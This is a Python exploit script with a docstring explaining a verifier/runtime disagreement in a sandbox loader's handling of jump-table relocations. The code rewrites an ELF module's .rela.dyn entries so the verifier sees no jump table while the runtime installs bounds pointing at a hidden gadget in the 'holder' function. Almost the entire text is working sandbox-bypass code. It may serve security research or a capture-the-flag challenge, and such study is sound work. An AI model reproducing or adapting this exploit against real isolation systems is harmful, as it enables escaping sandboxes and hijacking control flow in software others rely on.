#!/usr/bin/env python3
"""jtdup_patch.py IN OUT: makes the loader's verifier and the runtime disagree
about the jump table. The verifier (verify_module.c, relocated()) takes the
table bounds from __sfi_jt_bounds only when exactly one relocation covers
each 8-byte half; with two it assumes "no table". The runtime
(instance.c, sfi__relocate) applies every relocation in order and takes
whatever the last one wrote, checking only that both bounds are 16-aligned
code addresses. The patch (1) re-aims the two callback-slot relocations
that come first in .rela.dyn at __sfi_jt_bounds and +8, and (2) sets the
addends of the real bound relocations (applied later: they win) to the
holder function's hidden gadget (holder+16) and holder+32."""
import struct, sys

data = bytearray(open(sys.argv[1], "rb").read())
shoff, = struct.unpack_from("<Q", data, 0x28)
shentsize, shnum, shstrndx = struct.unpack_from("<HHH", data, 0x3a)
secs = []
for i in range(shnum):
    secs.append(struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize))
shstr = secs[shstrndx]
def name(s):
    off = shstr[4] + s[0]
    return data[off:data.index(b"\0", off)].decode()
by = {name(s): s for s in secs}
symtab, strtab = by[".symtab"], by[".strtab"]
syms = {}
for k in range(symtab[5] // 24):
    st_name, info, other, shndx, value, size = struct.unpack_from(
        "<IBBHQQ", data, symtab[4] + 24 * k)
    off = strtab[4] + st_name
    syms[data[off:data.index(b"\0", off)].decode()] = value
bounds, slots, holder = syms["__sfi_jt_bounds"], syms["__sfi_cb_slots"], syms["holder"]
rela = by[".rela.dyn"]
ents = [(rela[4] + 24 * k,) + struct.unpack_from("<QQq", data, rela[4] + 24 * k)
        for k in range(rela[5] // 24)]
stolen = [e for e in ents if slots <= e[1] < slots + 16]
assert len(stolen) == 2
for (at, off, info, add), new_off in zip(stolen, (bounds, bounds + 8)):
    struct.pack_into("<Q", data, at, new_off)
for (at, off, info, add) in ents:
    if off == bounds:
        struct.pack_into("<q", data, at + 16, holder + 16)
    if off == bounds + 8:
        struct.pack_into("<q", data, at + 16, holder + 32)
open(sys.argv[2], "wb").write(data)
print("bounds 0x%x slots 0x%x gadget 0x%x" % (bounds, slots, holder + 16))
